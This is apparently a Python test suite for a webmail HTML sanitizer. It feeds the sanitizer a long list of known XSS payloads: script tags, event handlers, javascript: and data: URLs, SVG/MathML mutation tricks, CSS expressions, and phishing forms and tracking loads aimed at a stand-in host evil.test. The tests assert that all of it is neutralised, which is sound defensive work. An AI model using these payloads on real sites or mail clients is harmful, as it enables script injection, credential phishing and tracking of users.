"""HTML of others: payloads that are known to have worked somewhere, and what stays of honest letters."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from groupware.mime.charsets import decode
from groupware.mime.sections import decoded
from groupware.mime.summary import summarize
from tests.support import corpus
from web.webmail.body import POLICY, _body
from web.webmail.safe_html import safe

LINKED = ("http:", "https:", "mailto:", "tel:")
PROXY = "/mail/image?"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img srcset='http://evil.test/a 1x, javascript:alert(1) 2x'>",
    "<body onload=alert(1) background='javascript:alert(1)'>",
    "<BGSOUND SRC=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<a href='/jmap/session'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<link rel=prefetch href='https://evil.test/'>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/)}</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='background-color:url(https://evil.test/)'>x</div>",
    "<div style='background:\\75rl(https://evil.test/)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(https://evil.test/x.xml#x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
    "<p style='list-style-image:url(https://evil.test/t.gif)'>x</p>",
    "<form action='https://evil.test/'><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster='https://evil.test/t.gif'></video>",
    "<audio src='https://evil.test/t.mp3' autoplay></audio>",
    "<source onerror=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='https://evil.test/t.gif'><td background=javascript:alert(1)>x</table>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x><script>alert(1)</script></x>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p id=location name=cookie>x</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<img src='cid:nobody' onload=alert(1)>",
    "<a href='https://good.test/' onclick=alert(1) target=_top>x</a>",
    "<" * 2000,
    "<div>" * 3000 + "<script>alert(1)</script>",
]


NEVER = frozenset({"script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "svg"})
AROUND = ("{}", "<p>before {} after</p>", "<table><tr><td>{}</td></tr></table>", "<style>{}", "<a title='{}'>")


class Walk(HTMLParser):
    """What a browser would find in harmless HTML: each tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def check(html: str) -> None:
    """Nothing in it runs, is sent, is fetched from elsewhere, or covers what is around it."""
    for tag, fields in Walk(html).found:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
        }
        for name, value in fields.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"id", "name", "class", "srcset", "background", "action", "formaction", "srcdoc"}
            if name == "href":
                assert value.strip().lower().startswith(LINKED), value
                assert fields["target"] == "_blank"
                assert "noopener" in fields["rel"]
            if name == "src":
                assert value.startswith(("data:image/", PROXY)), value
            if name == "style":
                assert not re.search(r"url|expression|position|binding|behavior|@|\\", value, re.IGNORECASE), value


def shown(html: str, *, images: bool = False) -> str:
    return safe(html, (lambda _: f"{PROXY}x") if images else (lambda _: None)).html


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("images", [False, True])
def test_a_payload_does_nothing(payload: str, images: bool) -> None:
    for around in AROUND:
        check(shown(around.replace("{}", payload), images=images))


@given(st.text(max_size=60), st.lists(st.sampled_from(PAYLOADS), max_size=4))
def test_payloads_together_do_nothing_either(between: str, payloads: list[str]) -> None:
    check(shown(between.join(payloads), images=True))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_is_harmless_stays_as_it_is(payload: str) -> None:
    """Else the second look would find something that the first has made: mutation."""
    once = shown(payload)
    assert Walk(shown(once)).found == Walk(once).found


def test_a_letter_keeps_its_form() -> None:
    got = shown(
        '<h1>Plan</h1><p style="color: red; margin: 4px">One <b>two</b> '
        '<a href="https://good.test/?a=1&amp;b=2">x</a></p><table width="100%" bgcolor="#eee">'
        '<tr><td colspan="2" align="center">cell</td></tr></table><ol start="3"><li>a</ol>'
    )
    for kept in ("<h1>Plan</h1>", "color:red", "margin:4px", "<b>two</b>", 'bgcolor="#eee"', 'start="3"'):
        assert kept in got, got
    assert 'href="https://good.test/?a=1&amp;b=2"' in got


def test_pictures_are_counted_that_are_not_shown() -> None:
    found = safe('<img src="https://a.test/1.png"><img src="cid:x"><img alt="none">', lambda _: None)
    assert found.blocked == 2


def test_every_html_of_the_corpus_becomes_harmless() -> None:
    seen = 0
    for name in corpus.messages():
        octets = corpus.read(name)
        for part in summarize(octets).parts:
            if part.media == "text/html":
                seen += 1
                check(shown(decode(decoded(octets, part), part.charset), images=True))
    assert seen > 100


def test_bodies_of_the_corpus_are_pages() -> None:
    for name in corpus.messages()[:300]:
        page = _body(corpus.read(name), lambda _: None, head=False).page
        inner = page.partition("<body>")[2].rpartition("</body>")[0]
        check(inner)


def test_the_policy_of_the_page_lets_nothing_run() -> None:
    rules = dict(each.strip().partition(" ")[::2] for each in POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    assert "script-src" not in rules
    assert rules["frame-ancestors"] == "'self'"
    assert "allow-scripts" not in rules["sandbox"]
    assert "allow-same-origin" not in rules["sandbox"]
